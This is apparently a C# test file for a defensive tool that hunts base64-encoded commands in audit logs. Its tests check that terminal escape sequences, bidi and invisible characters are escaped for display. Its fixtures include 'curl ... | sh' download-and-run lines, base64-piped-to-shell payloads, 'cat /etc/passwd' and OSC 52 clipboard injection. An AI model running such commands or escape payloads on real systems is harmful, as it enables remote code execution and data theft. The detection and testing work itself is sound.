using System;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using B64Hunt.Commands;
using B64Hunt.Model;
using B64Hunt.Text;
using Xunit;
using static B64Hunt.Tests.Hostile.HostileLines;

namespace B64Hunt.Tests.Hostile
{
    /// <summary>Issue #12 item 6: attacker text is neutralised when read in, and kept exactly in the Raw properties.</summary>
    public class NeutralizeTests
    {
        internal const string Osc0 = "\u001b]0;owned\u0007";
        internal const string Osc52 = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007";
        internal const string Csi2J = "\u001b[2J";

        internal static bool IsDisplaySafe(string? text) =>
            text == null || text.All(c => (c >= 0x20 && c != 0x7F && !(c >= 0x80 && c < 0xA0) && c != '\u202E' && c != '\u200B' && !char.IsSurrogate(c) && c != '\u2028') || c == '\n' || c == '\t');

        [Theory]
        [InlineData(Osc0, "\\x1b]0;owned\\x07")]
        [InlineData(Csi2J, "\\x1b[2J")]
        [InlineData("rm -rf /tmp/x\rls", "rm -rf /tmp/x\\x0dls")]
        [InlineData("echo \u202Eevil", "echo \\u202eevil")]
        [InlineData("cu\u200Brl", "cu\\u200brl")]
        [InlineData("a\u0085b", "a\\u0085b")]
        [InlineData("x\uDB40\uDC41y", "x\\U000e0041y")]
        [InlineData("line\u2028break", "line\\u2028break")]
        public void ControlsBidiAndInvisibleCharactersAreEscaped(string raw, string shown)
        {
            Assert.Equal(shown, DataText.Neutralize(raw));
            Assert.Equal(shown, DataText.Neutralize(DataText.Neutralize(raw))); // twice changes nothing
        }

        [Fact]
        public void ALoneSurrogateIsEscaped()
        {
            Assert.Equal("lone\\ud800!", DataText.Neutralize("lone\uD800!"));
        }

        [Theory]
        [InlineData("curl -s http://203.0.113.5/a.sh | sh")]
        [InlineData("echo 'héllo wörld' 中文 😀\tdone\nnext\r\nlast")]
        [InlineData("printf '\\x1b[31m'")] // an escape written as text is text
        public void OrdinaryTextIsTheSameInstance(string text)
        {
            Assert.Same(text, DataText.Neutralize(text));
        }

        [Fact]
        public void EventFieldsAreNeutralisedAndTheRawPropertiesKeepTheExactText()
        {
            string host = "web-01" + Osc0;
            string account = "root" + Csi2J;
            string commandLine = "bash -c \"echo " + B64("curl -s http://203.0.113.7/x | sh" + Osc52) + "|base64 -d|sh\" " + Osc52;
            using var ps = GetB64CommandShell();
            ps.AddCommand("Get-B64Command").AddParameter("CommandLine", commandLine).AddParameter("Computer", host).AddParameter("Account", account);
            // The OSC 52 clipboard text is base64 itself, so it decodes to an event of its own too.
            var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            Assert.NotEmpty(events);
            Assert.All(events, e => Assert.True(IsDisplaySafe(e.CommandLine) && IsDisplaySafe(e.DecodedCommand) && IsDisplaySafe(e.Computer)));
            var ev = events.First(e => e.DecodedCommand.Contains("203.0.113.7"));
            Assert.True(IsDisplaySafe(ev.Computer), ev.Computer);
            Assert.True(IsDisplaySafe(ev.Account), ev.Account);
            Assert.True(IsDisplaySafe(ev.CommandLine), ev.CommandLine);
            Assert.True(IsDisplaySafe(ev.DecodedCommand), ev.DecodedCommand);
            Assert.Equal(host, ev.ComputerRaw);
            Assert.Equal(account, ev.AccountRaw);
            Assert.Equal(commandLine, ev.CommandLineRaw);
            Assert.Contains("\\x1b]0;owned\\x07", ev.Computer);
        }

        [Fact]
        public void MessagesQuotingDataAreNeutralised()
        {
            using var ps = GetB64CommandShell();
            ps.AddCommand("Get-B64Command").AddParameter("CommandLine", "echo " + B64("id; uname -a; cat /etc/passwd"))
                .AddParameter("TimeGenerated", "yesterday" + Osc52).AddParameter("Verbose", true);
            ps.Invoke();
            var error = Assert.Single(ps.Streams.Error);
            Assert.Equal("InvalidTimeGenerated", error.FullyQualifiedErrorId.Split(',')[0]);
            Assert.True(IsDisplaySafe(error.ErrorDetails?.Message), error.ErrorDetails?.Message);
            Assert.Contains("\\x1b]52", error.ErrorDetails!.Message);
            Assert.All(ps.Streams.Verbose, v => Assert.True(IsDisplaySafe(v.Message)));
        }

        [Fact]
        public void EscapeSequencesInEveryFieldOfAnAuomsFileNeverReachAnEventRaw()
        {
            var rng = new Random(20261202);
            string[] hostile = { Osc0, Osc52, Csi2J, "\r", "\u202E", "\u200B", "\uDB40\uDC41", "\u0085", "\u0000", "\u2028" };
            using var dir = new Sources.SourceTestSupport.TempDirectory();
            var lines = Enumerable.Range(0, 40).Select(i =>
            {
                string h = "web" + rng.Next(9) + hostile[rng.Next(hostile.Length)];
                string u = "u" + hostile[rng.Next(hostile.Length)];
                string payload = B64("curl -s http://203.0.113." + i + "/a" + hostile[rng.Next(hostile.Length)] + " | sh");
                return $"Oct  1 00:00:{i % 60:00} {h.Replace(" ", "")} auoms[1]: type=AUOMS_EXECVE audit(1790812800.000:{i}): user={u} uid=0 comm=\"bash\" cmdline=\"bash -c echo {payload}|base64 -d|sh {hostile[rng.Next(hostile.Length)]}\" redactors= containerid=";
            });
            System.IO.File.WriteAllText(dir.File("hostile.log"), string.Join("\n", lines) + "\n");
            using var ps = GetB64CommandShell();
            ps.AddCommand("Get-B64Command").AddParameter("LiteralPath", dir.File("hostile.log"));
            var events = ps.Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            Assert.NotEmpty(events);
            foreach (var ev in events)
            {
                foreach (string? text in new[] { ev.Computer, ev.Account, ev.CommandLine, ev.DecodedCommand, ev.Source, ev.EncodedText })
                {
                    Assert.True(IsDisplaySafe(text), text);
                }
            }
            Assert.All(ps.Streams.Error, e => Assert.True(IsDisplaySafe(e.ErrorDetails?.Message ?? e.Exception.Message)));
        }
    

        [Fact]
        public void AlertTextIsNeutralisedToo()
        {
            var row = new System.Collections.Generic.Dictionary<string, object?>
            {
                ["AlertName"] = "Suspicious" + Osc0, ["AlertSeverity"] = "High", ["Description"] = "see\rhidden", ["CompromisedEntity"] = "web-01" + Csi2J,
            };
            var alert = B64Hunt.LogAnalytics.SecurityAlertMapper.Create(row, "web-01" + Osc52, "alerts.csv:2");
            Assert.True(IsDisplaySafe(alert.AlertName) && IsDisplaySafe(alert.Description) && IsDisplaySafe(alert.Computer) && IsDisplaySafe(alert.CompromisedEntity));
            Assert.Equal("Suspicious\\x1b]0;owned\\x07", alert.AlertName);
            Assert.Equal(AlertSeverity.High, alert.Severity);
        }
    }
}
